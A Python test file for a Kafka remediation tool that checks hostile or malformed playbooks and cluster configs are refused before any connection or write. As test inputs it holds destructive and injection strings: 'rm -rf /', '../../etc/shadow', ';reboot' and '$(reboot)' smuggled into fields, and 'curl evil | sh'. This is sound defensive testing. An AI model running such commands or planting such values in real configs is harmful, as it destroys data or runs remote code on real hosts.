"""Malformed and hostile playbooks and configurations: refused, with the file and field named.

A playbook is free to be wrong; nothing in one may run as free text, and a bad one must be
refused before it can shape a plan. Every command refuses a bad cluster.yaml or playbook before
it contacts ZooKeeper or a broker and before it writes anything (cluster.yaml's rules, broker
files and directory names have their own suites: tests/config, tests/formats, tests/collect).
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from remediate.errors import ConfigError
from remediate.playbook import load_playbook, parse_playbook
from tests.execute.sandbox_tools import run_cli

AREA = "Bad input"
SHIPPED = Path(__file__).resolve().parents[2] / "remediate" / "playbooks" / "topicid-mismatch.yaml"


# One row of the fault table (docs/faults.md), proved by the field rules and the file checks.
MALFORMED_PLAYBOOK = pytest.mark.fault(
    AREA,
    "A malformed or hostile playbook: not YAML, not a mapping, named differently from its"
    " file, a step outside the vocabulary, a file or scope it may not name, a negative timer,"
    " an unknown field",
    "Refused when loaded: the error names the playbook file, the field and what was expected;"
    " nothing in a playbook runs as free text",
)


def shipped() -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load(SHIPPED.read_text())
    return loaded


@MALFORMED_PLAYBOOK
@pytest.mark.parametrize(
    ("change", "field", "expected"),
    [
        ({"steps": ["stop", "exec: rm -rf /"]}, "steps.1", "'gate', 'stop', 'backup'"),
        ({"steps": ["stop", {"wait": "forever"}]}, "steps.1", "registered"),
        ({"files": ["../../etc/shadow"]}, "files.0", "'partition.metadata'"),
        ({"scope": "everything"}, "scope", "'affected' or 'all'"),
        ({"name": "x;reboot"}, "name", "pattern"),
        ({"gates": {"stability_window_s": -1}}, "gates.stability_window_s", ">= 0"),
        ({"gates": {"stability_window_s": "$(reboot)"}}, "gates.stability_window_s", "number"),
        ({"run": "curl evil | sh"}, "run", "Extra inputs are not permitted"),
        ({"steps": []}, "steps", ""),
    ],
)
def test_a_bad_playbook_is_refused_naming_file_and_field(
    change: dict[str, Any], field: str, expected: str
) -> None:
    document = {**shipped(), **change}
    with pytest.raises(ConfigError) as raised:
        parse_playbook(document, source="playbooks/bad.yaml")
    message = str(raised.value)
    assert f"playbooks/bad.yaml: {field}" in message
    assert expected.replace(">= 0", "greater than or equal to 0") in message or expected in message


@MALFORMED_PLAYBOOK
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("steps: [stop\n", "not valid YAML"),
        ("- just\n- a list\n", "(top level)"),
        (yaml.safe_dump({**shipped(), "name": "other-name"}), "expected 'bad' (the file's name)"),
        ("\x00\x01binary", "not valid YAML"),
    ],
)
def test_a_bad_playbook_file_is_refused(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as raised:
        load_playbook(str(path))
    assert str(path) in str(raised.value)
    assert expected in str(raised.value)


_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(max_size=30),
)
_VALUES = st.recursive(
    _SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(
    key=st.sampled_from(sorted(shipped())),
    value=_VALUES,
)
def test_any_value_in_any_field_parses_or_raises_config_error(key: str, value: object) -> None:
    document = {**shipped(), key: value}
    assert _error_of(document) in (None, "fuzzed.yaml")


@settings(max_examples=100, deadline=None)
@given(document=_VALUES)
def test_any_document_parses_or_raises_config_error(document: object) -> None:
    assert _error_of(document) in (None, "fuzzed.yaml")


def _error_of(document: object) -> str | None:
    """None if the document parses; else the source its ConfigError names (anything other
    than a ConfigError escapes and fails the test)."""
    try:
        parse_playbook(document, source="fuzzed.yaml")
    except ConfigError as exc:
        return str(exc).split(": ", 1)[0]
    return None


# -- the command line: refused before anything is contacted or written ---------------------------


@pytest.fixture
def listeners() -> Iterator[dict[str, socket.socket]]:
    """A ZooKeeper port and an SSH port that listen and remember any connection made to them."""
    opened = {}
    for name in ("zookeeper", "ssh"):
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        listener.setblocking(False)
        opened[name] = listener
    yield opened
    for listener in opened.values():
        listener.close()


def connections(listener: socket.socket) -> int:
    count = 0
    while True:
        try:
            accepted, _ = listener.accept()
        except BlockingIOError:
            return count
        accepted.close()
        count += 1


def cluster_yaml(directory: Path, listeners: dict[str, socket.socket]) -> dict[str, Any]:
    """A valid configuration whose ZooKeeper and broker are the listeners."""
    for name in ("id_ed25519", "known_hosts"):
        (directory / name).write_text("")
    return {
        "cluster": "bad-input",
        "zookeeper": {
            "connect": f"127.0.0.1:{listeners['zookeeper'].getsockname()[1]}",
            "session_timeout_s": 4,
        },
        "brokers": [
            {
                "id": 1,
                "host": "127.0.0.1",
                "ssh_port": listeners["ssh"].getsockname()[1],
                "log_dirs": ["/var/lib/kafka/data"],
            }
        ],
        "ssh": {"user": "root", "key_file": "id_ed25519", "known_hosts": "known_hosts"},
        "service": {"stop": "systemctl stop kafka", "start": "systemctl start kafka"},
        "journal_dir": "journal",
        "backup_dir": str(directory / "backups"),
    }


HOSTILE_CONFIG = [
    (("brokers", 0, "host"), "kafka1;reboot", "cluster.yaml: brokers[0].host: expected a host"),
    (
        ("brokers", 0, "logdirs"),
        ["/x"],
        "cluster.yaml: brokers[0].logdirs: expected a known key (did you mean 'log_dirs'?)",
    ),
    (
        ("service", "start"),
        "systemctl start kafka\nreboot",
        "cluster.yaml: service.start: expected a single-line command",
    ),
]


# The same row for both tests below: the first one found names it.
CLI_REFUSES = pytest.mark.fault(
    AREA,
    "A malformed or hostile cluster.yaml or playbook handed to scan, check, plan, apply,"
    " fix --yes, resume or rollback",
    "Exit 3 with every problem on stderr (file, field, what was expected) and nothing on"
    " stdout but check's one line (UNKNOWN: and the problems); no connection is made to"
    " ZooKeeper or any broker, and no plan, journal, lock or"
    " backup is written",
)


@CLI_REFUSES
@pytest.mark.parametrize(
    "command",
    [
        ["scan", "--json"],
        ["check"],
        ["plan", "-o", "plan.json"],
        ["apply", "--plan", "plan.json", "--approve", "0" * 64, "--json"],
        ["fix", "--yes", "--json"],
        ["resume"],
        ["rollback", "--run", "20260101T000000Z-0000"],
    ],
    ids=lambda command: command[0],
)
def test_the_cli_refuses_bad_input_before_contacting_anything(
    tmp_path: Path, listeners: dict[str, socket.socket], command: list[str]
) -> None:
    document = cluster_yaml(tmp_path, listeners)
    for path, value, _ in HOSTILE_CONFIG:
        *parents, key = path
        target: Any = document
        for part in parents:
            target = target[part]
        target[key] = value
    config = tmp_path / "cluster.yaml"
    config.write_text(yaml.safe_dump(document))
    (tmp_path / "plan.json").write_text("{}")
    before = sorted(tmp_path.rglob("*"))

    refused = run_cli(command[0], "-c", str(config), *command[1:])
    assert refused.returncode == 3
    if command == ["check"]:
        # A monitoring probe always prints its one line (Nagios shows it).
        (line,) = refused.stdout.splitlines()
        assert line.startswith("UNKNOWN: ") and "brokers[0].host" in line, line
    else:
        assert refused.stdout == ""
    for _, _, message in HOSTILE_CONFIG:
        assert message.replace("cluster.yaml", str(config)) in refused.stderr
    assert sorted(tmp_path.rglob("*")) == before
    assert {name: connections(s) for name, s in listeners.items()} == {"zookeeper": 0, "ssh": 0}


@CLI_REFUSES
def test_the_cli_refuses_a_bad_playbook_before_contacting_anything(
    tmp_path: Path, listeners: dict[str, socket.socket]
) -> None:
    config = tmp_path / "cluster.yaml"
    config.write_text(yaml.safe_dump(cluster_yaml(tmp_path, listeners)))
    playbook = tmp_path / "bad.yaml"
    playbook.write_text(yaml.safe_dump({**shipped(), "name": "bad", "steps": ["stop", "rm -rf"]}))
    before = sorted(tmp_path.rglob("*"))

    refused = run_cli(
        "plan", "-c", str(config), "--playbook", str(playbook), "-o", str(tmp_path / "plan.json")
    )
    assert refused.returncode == 3
    assert f"{playbook}: steps.1.verb: " in refused.stderr
    assert "'gate', 'stop', 'backup'" in refused.stderr
    assert sorted(tmp_path.rglob("*")) == before
    assert {name: connections(s) for name, s in listeners.items()} == {"zookeeper": 0, "ssh": 0}
